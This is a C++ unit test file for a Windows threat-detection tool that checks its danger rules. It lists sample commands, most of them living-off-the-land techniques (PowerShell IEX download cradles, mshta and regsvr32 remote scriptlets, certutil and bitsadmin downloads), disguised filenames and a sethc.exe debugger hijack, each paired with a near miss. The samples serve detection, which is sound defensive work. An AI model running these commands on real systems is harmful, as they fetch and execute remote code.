// The shipped rules of what looks dangerous (data/threats/DangerRules.csv), each with a command
// that matches and a near miss that does not.
#include <gtest/gtest.h>

#include "common/Files.h"
#include "database/DangerRules.h"
#include "database/DataBase.h"
#include "sentrel-db/TableCsv.h"

namespace sentrel {
namespace {

std::string FolderOf(std::string_view name) {
    if (name == "TEMP") return "C:\\Users\\Bob\\AppData\\Local\\Temp";
    if (name == "PUBLIC") return "C:\\Users\\Public";
    if (name == "PROGRAMDATA") return "C:\\ProgramData";
    if (name == "APPDATA") return "C:\\Users\\Bob\\AppData\\Roaming";
    if (name == "USERPROFILE") return "C:\\Users\\Bob";
    if (name == "SYSTEMROOT") return "C:\\Windows";
    return {};
}

bool IsMalicious(std::string_view host) { return host == "bad-host.example" || host == "203.0.113.7"; }

class ShippedDangerRules : public ::testing::Test {
protected:
    static void SetUpTestSuite() {
        std::vector<std::string> warnings;
        auto table = dbtool::TableFromCsv(
            std::string(kDangerRulesTable),
            ReadFileText(JoinPath(SENTREL_THREATS_FOLDER, std::string(kDangerRulesTable) + ".csv")), warnings);
        ASSERT_TRUE(warnings.empty());
        TDataBase dataBase("unused.db", false, "");
        dataBase.AddTable(std::move(table));
        rules_ = new TDangerRules(dataBase);
    }
    static void TearDownTestSuite() { delete rules_; }

    static DangerVerdict Judge(const DangerSubject& subject) { return rules_->Judge(subject, FolderOf, IsMalicious); }
    static DangerVerdict JudgeCommand(std::string_view command) { return Judge({.command = command}); }

    static TDangerRules* rules_;
};
TDangerRules* ShippedDangerRules::rules_ = nullptr;

TEST_F(ShippedDangerRules, EveryRowIsUnderstood) {
    EXPECT_EQ(rules_->SkippedCount(), 0);
    EXPECT_GT(rules_->RuleCount(), 60);
}

TEST_F(ShippedDangerRules, EachRuleMatchesItsCommandAndNotItsNearMiss) {
    struct Case {
        const char* command;
        const char* reason;  // a part of the first reason; empty: no reason at all
    };
    const Case cases[] = {
        // Script hosts fetching or running code.
        {R"c(powershell.exe -NoP -enc SQBFAFgA)c", "encoded command"},
        {R"c(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -EncodedCommand SQBFAFgA)c", "encoded command"},
        {R"c(powershell.exe -ExecutionPolicy Bypass -Command Get-Date)c", ""},
        {R"c(pwsh -e SQBFAFgA)c", "encoded command"},
        {R"c(powershell -WindowStyle Hidden -File C:\Tools\x.ps1)c", "hidden window"},
        {R"c(powershell -WindowStyle Minimized -Command Get-Date)c", ""},
        {R"c(powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://h.example/a')")c", "IEX"},
        {R"c(powershell -c "Get-ChildItem C:\index | Out-File C:\x.txt")c", ""},
        {R"c(powershell -c "[Convert]::FromBase64String('AAA=')")c", "Base64"},
        {R"c(powershell -c "(New-Object Net.WebClient).DownloadFile('x','y')")c", "downloads code"},
        {R"c(mshta.exe http://h.example/update.hta)c", "HTML application from the Internet"},
        {R"c(mshta.exe C:\Program Files\Vendor\help.hta)c", "HTML application (.hta)"},
        {R"c(mshta.exe javascript:a=GetObject("script:http://h.example/x"))c", "script code"},
        {R"c(mshta.exe vbscript:Execute("x"))c", "script code"},
        {R"c(regsvr32.exe /s /n /u /i:http://h.example/a.sct scrobj.dll)c", "scriptlet from the Internet"},
        {R"c(regsvr32.exe /s C:\Program Files\Vendor\ext.dll)c", ""},
        {R"c(regsvr32 /s /u /i:C:\x\a.sct scrobj.dll)c", "scrobj.dll"},
        {R"c(rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1))c", "script code"},
        {R"c(rundll32.exe C:\Users\Bob\AppData\Local\Vendor\helper.dll,Start)c", "library from a user folder (helper.dll)"},
        {R"c(rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL)c", ""},
        {R"c(certutil.exe -urlcache -split -f http://h.example/a.exe a.exe)c", "downloads a file"},
        {R"c(certutil -decode a.txt a.exe)c", "decodes a hidden file"},
        {R"c(certutil -hashfile a.exe SHA256)c", ""},
        {R"c(bitsadmin /transfer job http://h.example/a.exe C:\a.exe)c", "bitsadmin downloads"},
        {R"c(bitsadmin /list)c", ""},
        // Addresses.
        {R"c(C:\Program Files\Vendor\app.exe --server http://h.example/api)c", "web address"},
        {R"c(C:\Program Files\Vendor\app.exe --server localhost)c", ""},
        {R"c(\\fileserver\share\tool.exe)c", "network share"},
        {R"c(C:\Program Files\Vendor\app.exe --connect 198.51.100.4)c", "bare IP address (198.51.100.4)"},
        {R"c(C:\Program Files\Vendor\app.exe --version 1.2.3.4.5)c", ""},
        // Folders.
        {R"c(C:\Users\Bob\AppData\Local\Temp\upd.exe)c", "temporary folder"},
        {R"c(C:\Users\Bob\AppData\Local\Templates\upd.exe)c", ""},
        {R"c(C:\Users\Public\Libraries\svc.exe)c", "Public user folder"},
        {R"c(C:\ProgramData\upd.exe)c", "right in ProgramData"},
        {R"c(C:\ProgramData\Vendor\upd.exe)c", ""},
        {R"c(C:\Users\Bob\AppData\Roaming\upd.exe)c", "roaming application data"},
        {R"c(C:\Users\Bob\AppData\Roaming\Vendor\upd.exe)c", ""},
        {R"c(D:\$Recycle.Bin\S-1-5-21\x.exe)c", "Recycle Bin"},
        {R"c(C:\Users\Bob\Downloads\setup.exe)c", "Downloads folder"},
        {R"c(%TEMP%\upd.exe)c", "temporary folder"},
        // Names.
        {R"c(C:\Users\Bob\AppData\Local\Vendor\svchost.exe)c", "Windows program svchost.exe"},
        {R"c(C:\Windows\System32\svchost.exe -k netsvcs)c", ""},
        {R"c(C:\Windows\explorer.exe)c", ""},
        {R"c(svchost.exe -k netsvcs)c", ""},
        {"\"C:\\Program Files\\Vendor\\invoice.pdf.exe\"", "two extensions"},
        {"\"C:\\Program Files\\Vendor\\report.final.exe\"", ""},
        {"\"C:\\Program Files\\Vendor\\photo\xE2\x80\xAEgpj.exe\"", "turns text around"},
        {"\"C:\\Program Files\\Vendor\\photo.jpg      .exe\"", "two extensions"},
        {"\"C:\\Program Files\\Vendor\\My  App.exe\"", ""},
        {R"c(C:\Program Files\Vendor\saver.scr)c", "screen saver"},
        {R"c(C:\Program Files\Vendor\old.pif)c", ".pif file"},
        {R"c(wscript.exe C:\Program Files\Vendor\run.vbs)c", "script file (.vbs)"},
        {R"c(wscript.exe //B C:\Program Files\Vendor\run.txt)c", ""},
        // An ordinary program stays quiet.
        {R"c("C:\Program Files\Vendor\Vendor Updater\updater.exe" /silent /minimized)c", ""},
    };
    for (const Case& test : cases) {
        const DangerVerdict verdict = JudgeCommand(test.command);
        if (test.reason[0] == '\0') {
            EXPECT_TRUE(verdict.Empty()) << test.command << " gave: " << DangerReasonsLine(verdict.reasons);
        } else {
            ASSERT_FALSE(verdict.Empty()) << test.command;
            EXPECT_NE(DangerReasonsLine(verdict.reasons).find(test.reason), std::string::npos)
                << test.command << " gave: " << DangerReasonsLine(verdict.reasons);
        }
    }
}

TEST_F(ShippedDangerRules, AMaliciousHostComesFirstAndIsNamed) {
    const DangerVerdict verdict = JudgeCommand("mshta.exe http://Bad-Host.example/update.hta");
    EXPECT_EQ(verdict.maliciousHost, "bad-host.example");
    ASSERT_GE(verdict.reasons.size(), 2u);
    EXPECT_EQ(verdict.reasons[0], "bad-host.example is listed by URLhaus as a host that spread malware");
    EXPECT_TRUE(JudgeCommand("mshta.exe http://good-host.example/update.hta").maliciousHost.empty());
    // Settings point to hosts too: a start page, a proxy.
    EXPECT_EQ(Judge({.address = "http://203.0.113.7:8080/start"}).maliciousHost, "203.0.113.7");
    EXPECT_EQ(Judge({.address = "http=bad-host.example:3128;https=bad-host.example:3128"}).maliciousHost,
              "bad-host.example");
    EXPECT_TRUE(Judge({.address = "http://notbad-host.example/"}).Empty());
}

TEST_F(ShippedDangerRules, EntriesAwayFromTheirDefaults) {
    const auto judge = [](std::string_view where, std::string_view item, std::string_view data) {
        return Judge({.where = where, .item = item, .data = data});
    };
    const char* winlogon = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon";
    EXPECT_FALSE(judge(winlogon, "Shell", "explorer.exe, C:\\Users\\Bob\\x.exe").Empty());
    EXPECT_TRUE(judge(winlogon, "Shell", "Explorer.exe").Empty());
    EXPECT_FALSE(judge(winlogon, "Userinit", "C:\\Windows\\system32\\userinit.exe,C:\\x\\y.exe").Empty());
    EXPECT_TRUE(judge(winlogon, "Userinit", "C:\\Windows\\system32\\userinit.exe,").Empty());
    const char* options = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options (32-bit)";
    EXPECT_NE(DangerReasonsLine(judge(options, "sethc.exe", "Debugger=cmd.exe").reasons).find("program sethc.exe"),
              std::string::npos);
    EXPECT_TRUE(judge(options, "notepad.exe", "Debugger=C:\\Tools\\dbg.exe").Empty());
    EXPECT_TRUE(judge(options, "sethc.exe", "GlobalFlag=0x200").Empty());
}

TEST(DangerReasonsLine, ShowsAtMostThreeReasons) {
    EXPECT_EQ(DangerReasonsLine({}), "");
    EXPECT_EQ(DangerReasonsLine({"a", "b", "c", "d"}), "Why it looks dangerous: a; b; c");
}

TEST(DangerRules, RowsOfUnknownTestsAreSkippedAndTheRestStillWork) {
    std::vector<std::string> warnings;
    auto table = dbtool::TableFromCsv("DangerRules",
                                      "TEST,PROGRAM,PATTERN,REASON\n"
                                      "telepathy,x.exe,,a test of a later version\n"
                                      "argument,,-x,no program\n"
                                      "argument,tool.exe,--evil,tool is evil\n",
                                      warnings);
    TDataBase dataBase("unused.db", false, "");
    dataBase.AddTable(std::move(table));
    const TDangerRules rules(dataBase);
    EXPECT_EQ(rules.SkippedCount(), 2);
    EXPECT_EQ(rules.Judge({.command = "C:\\tool.exe --evil"}, {}, {}).reasons, std::vector<std::string>{"tool is evil"});
    EXPECT_TRUE(rules.Judge({.command = "C:\\tool.exe --evil-not"}, {}, {}).Empty());
}

}  // namespace
}  // namespace sentrel
